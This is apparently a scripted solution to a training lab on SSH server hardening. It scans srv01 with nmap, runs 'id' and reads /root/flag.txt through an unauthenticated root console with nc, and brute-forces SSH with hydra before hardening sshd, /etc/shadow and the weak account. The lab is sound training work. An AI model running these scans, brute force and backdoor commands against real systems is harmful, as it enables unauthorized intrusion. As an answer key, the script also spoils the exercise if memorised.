#!/bin/bash
# Scripted solution of ssh-server-hardening. Run on the `admin-ws` console as `trainee`, with
# ROOT_PW set to the root password given in the description of the objective recon-port.
# Follows the README's "How it is solved"; prints `ANSWER <objective> <value>` per flag/question
# and hardens srv01 over SSH as root (objectives disable-diagd, lock-weak-account,
# shadow-permissions, sshd-config).
set -euo pipefail
: "${ROOT_PW:?set ROOT_PW to the root password in the description of the objective recon-port}"

HOST=srv01
WORK=$(mktemp -d)
trap 'rm -rf "$WORK"' EXIT
cd "$WORK"

# recon-port: every TCP port; the one besides 22.
nmap -p- -T4 -oG scan.gnmap "$HOST" >&2
diag_port=$(grep -o '[0-9]*/open/tcp' scan.gnmap | cut -d/ -f1 | grep -vx 22 | head -n 1)
echo "ANSWER recon-port $diag_port"

# impact: the console runs every line as root, without a password.
impact=$(printf 'id\ncat /root/flag.txt\nexit\n' | nc -N -w 10 "$HOST" "$diag_port" | tee /dev/stderr |
  grep -o 'CYROP{[0-9a-f]*}' | head -n 1)
echo "ANSWER impact $impact"

# weak-password: hydra with the wordlists against SSH; -f stops at the first hit.
hydra -L ~/wordlists/users.txt -P ~/wordlists/passwords.txt -t 8 -f -I -o hydra.txt "ssh://$HOST" >&2 || true
hit=$(grep -m 1 -E 'login: .* password: ' hydra.txt)
weak_user=$(printf '%s\n' "$hit" | sed -E 's/.*login: ([^ ]+) +password: .*/\1/')
weak_password=$(printf '%s\n' "$hit" | sed -E 's/.*password: (.*)$/\1/')
echo "ANSWER weak-password $weak_user:$weak_password"

# A key for root first, so that key-only SSH does not lock us out.
mkdir -p ~/.ssh && chmod 0700 ~/.ssh
[ -f ~/.ssh/id_ed25519 ] || ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_ed25519
sshpass -p "$ROOT_PW" ssh-copy-id -o StrictHostKeyChecking=accept-new "root@$HOST" >&2
SSH=(ssh -o BatchMode=yes -o StrictHostKeyChecking=accept-new "root@$HOST")

"${SSH[@]}" "WEAK_USER=$weak_user bash -s" >&2 <<'REMOTE'
set -eu
ss -ltnp
# disable-diagd: stop it and keep it from starting at boot.
/etc/init.d/vendor-diagd stop
sed -i 's/^ENABLED=yes/ENABLED=no/' /etc/default/vendor-diagd
# lock-weak-account
usermod -L "$WEAK_USER"
# shadow-permissions: the Debian default.
chown root:shadow /etc/shadow
chmod 0640 /etc/shadow
# sshd-config: the drop-in is read first and the first value wins, so replace it.
sshd -T | grep -Ei '^(permitrootlogin|passwordauthentication|kbdinteractiveauthentication) '
rm -f /etc/ssh/sshd_config.d/50-remote-support.conf
printf '%s\n' 'PermitRootLogin prohibit-password' 'PasswordAuthentication no' \
  'KbdInteractiveAuthentication no' 'X11Forwarding no' > /etc/ssh/sshd_config.d/10-hardening.conf
sshd -t
kill -HUP "$(cat /run/sshd.pid)"
REMOTE

# The key still opens the server, a password no longer does.
for _ in $(seq 1 10); do
  "${SSH[@]}" true 2>/dev/null && break
  sleep 1
done
"${SSH[@]}" 'sshd -T | grep -Ei "^(permitrootlogin|passwordauthentication) "' >&2
echo 'key login still works' >&2
if sshpass -p "$ROOT_PW" ssh -o PubkeyAuthentication=no -o StrictHostKeyChecking=accept-new "root@$HOST" true 2>/dev/null; then
  echo 'a password login still works' >&2
  exit 1
fi
echo 'passwords refused' >&2
